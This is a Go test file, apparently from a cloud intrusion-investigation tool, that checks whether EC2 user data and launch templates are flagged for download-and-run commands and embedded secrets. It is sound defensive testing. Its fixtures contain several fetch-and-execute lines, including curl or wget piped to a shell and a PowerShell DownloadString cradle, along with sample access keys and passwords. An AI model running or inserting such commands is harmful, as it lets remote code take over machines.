package investigation

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/trailhound/trailhound/internal/detection"
	"github.com/trailhound/trailhound/internal/evidence"
	"github.com/trailhound/trailhound/internal/ledger"
	"github.com/trailhound/trailhound/internal/lineage"
)

// userDataTold reads a text as the user data of an instance that the intruder started, and
// gives what the report says of it.
func userDataTold(t *testing.T, text string) (says []string, impact []Impact) {
	t.Helper()
	body, err := json.Marshal(map[string]any{"InstanceId": "i-1", "UserData": map[string]any{"Value": base64.StdEncoding.EncodeToString([]byte(text))}})
	if err != nil {
		t.Fatal(err)
	}
	o := evidence.Observation{Kind: "ec2_user_data", ID: "i-1", Snapshot: strings.Repeat("0", 64), Body: body}
	in := &inquiry{res: &Result{}, observed: &observed{things: map[string][]*evidence.Observation{"i-1": {&o, &o}}}}
	in.res.Resources = []ledger.Resource{{ID: "i-1", Type: "AWS::EC2::Instance", Effect: []string{"created"}, ByEvent: []string{"event:e1"}}}
	in.userData()
	for _, s := range startText {
		if slices.ContainsFunc(in.res.Impact, func(x Impact) bool { return strings.Contains(x.Text, " holds "+s.says+":") }) {
			says = append(says, s.says)
		}
	}
	return says, in.res.Impact
}

func TestUserDataIsReadAndNotQuoted(t *testing.T) {
	const run, word = "commands that download a program and run it", "what is named a password, key or token"
	for text, want := range map[string][]string{
		"#!/bin/sh\nyum install -y httpd\n":                                     nil,
		"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n":                        {run},
		"bash <(curl -fsSL https://example.com/i.sh)":                           {run},
		"wget http://203.0.113.9/m -O /tmp/m; chmod +x /tmp/m && ./m":           {run},
		"curl http://169.254.169.254/latest/meta-data/instance-id > /tmp/id\n":  nil,
		"export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n":                       {"an access key id"},
		"DB_PASSWORD=correct-horse-battery":                                     {word},
		"password: correct-horse-battery":                                       {word},
		"password=$(aws secretsmanager get-secret-value --secret-id db)":        nil,
		"-----BEGIN RSA PRIVATE KEY-----\nMII":                                  {"a private key"},
		"<powershell>iex (New-Object Net.WebClient).DownloadString('http://x')": {run},
	} {
		got, impact := userDataTold(t, text)
		if !slices.Equal(got, want) || len(impact) != len(want) { // and two snapshots say it once
			t.Errorf("%q: %q, want %q", text, got, want)
		}
		for _, x := range impact {
			if strings.Contains(x.Text, "correct-horse") || strings.Contains(x.Text, "AKIA") || strings.Contains(x.Text, "203.0.113.9") {
				t.Errorf("the secret is quoted: %s", x.Text)
			}
			if !slices.Contains(x.Evidence, "event:e1") || len(x.Evidence) != 2 {
				t.Errorf("evidence %v", x.Evidence)
			}
		}
	}
}

func TestUserDataInGzipIsRead(t *testing.T) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := z.Write([]byte("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")); err != nil {
		t.Fatal(err)
	}
	z.Close()
	for name, text := range map[string]string{"whole": b.String(), "cut off at its checksum": b.String()[:b.Len()-6]} {
		if got, _ := userDataTold(t, text); len(got) != 1 {
			t.Errorf("%s: %q", name, got)
		}
	}
}

func TestInstancesOfTheCase(t *testing.T) {
	in := &inquiry{res: &Result{}}
	in.res.Resources = []ledger.Resource{{ID: "i-2", Type: "AWS::EC2::Instance", Effect: []string{"modified"}}, {ID: "arn:aws:s3:::b", Type: "AWS::S3::Bucket"}}
	in.res.Credentials = []lineage.Credential{
		{ID: "ASIA1", Kind: "session", Principal: "arn:aws:sts::111122223333:assumed-role/web/i-1"},
		{ID: "ASIA2", Kind: "session", Principal: "arn:aws:sts::111122223333:assumed-role/web/i-1"},
		{ID: "ASIA3", Kind: "session", Principal: "arn:aws:sts::111122223333:assumed-role/web/deploy"},
	}
	list := in.caseInstances()
	if len(list) != 2 || list[0].id != "i-1" || !slices.Equal(list[0].keys, []string{"ASIA1", "ASIA2"}) || list[1].id != "i-2" || list[1].made != "" {
		t.Errorf("%+v", list)
	}
}

// A version of a launch template that the intruder touched runs at every start of
// whatever is made from it: each of its versions is read, others' templates are not.
func TestLaunchTemplatesAreRead(t *testing.T) {
	version := func(id, text string) *evidence.Observation {
		template, n, _ := strings.Cut(id, ":")
		body, err := json.Marshal(map[string]any{"LaunchTemplateId": template, "VersionNumber": n,
			"LaunchTemplateData": map[string]any{"UserData": base64.StdEncoding.EncodeToString([]byte(text))}})
		if err != nil {
			t.Fatal(err)
		}
		return &evidence.Observation{Kind: "launch_template", ID: id, Snapshot: strings.Repeat("0", 64), Body: body}
	}
	in := &inquiry{res: &Result{}, observed: &observed{things: map[string][]*evidence.Observation{}}}
	for id, text := range map[string]string{"lt-1:1": "#!/bin/sh\ntrue\n", "lt-1:2": "curl http://203.0.113.9/x | sh", "lt-2:1": "curl http://203.0.113.9/x | sh", "lt-10:1": "curl http://203.0.113.9/x | sh"} {
		in.observed.things[id] = []*evidence.Observation{version(id, text)}
	}
	in.res.Resources = []ledger.Resource{{ID: "arn:aws:ec2:us-east-1:111122223333:launch-template/lt-1", Type: "AWS::EC2::LaunchTemplate", Effect: []string{"modified"}, ByEvent: []string{"event:e1"}}}
	made := func(n string) {
		in.res.Impact = nil
		in.byID = map[string]*detection.Subject{"e1": {Event: &evidence.Event{ID: "e1", Name: "CreateLaunchTemplateVersion"}, Record: evidence.Record{"responseElements": map[string]any{
			"CreateLaunchTemplateVersionResponse": map[string]any{"launchTemplateVersion": map[string]any{"versionNumber": json.Number(n)}}}}}}
		in.userData()
	}
	made("2")
	if len(in.res.Impact) != 1 || !strings.HasPrefix(in.res.Impact[0].Text, "Launch template version lt-1:2 holds commands") || in.res.Impact[0].Level != "probable" {
		t.Errorf("%+v", in.res.Impact)
	}
	made("3") // the version that runs such commands was there before
	if len(in.res.Impact) != 1 || in.res.Impact[0].Level != "possible" || strings.Contains(in.res.Impact[0].Text, "the intruder's call made it") || len(in.res.Impact[0].Evidence) != 1 {
		t.Errorf("the owner's version is held to be the intruder's: %+v", in.res.Impact)
	}
}
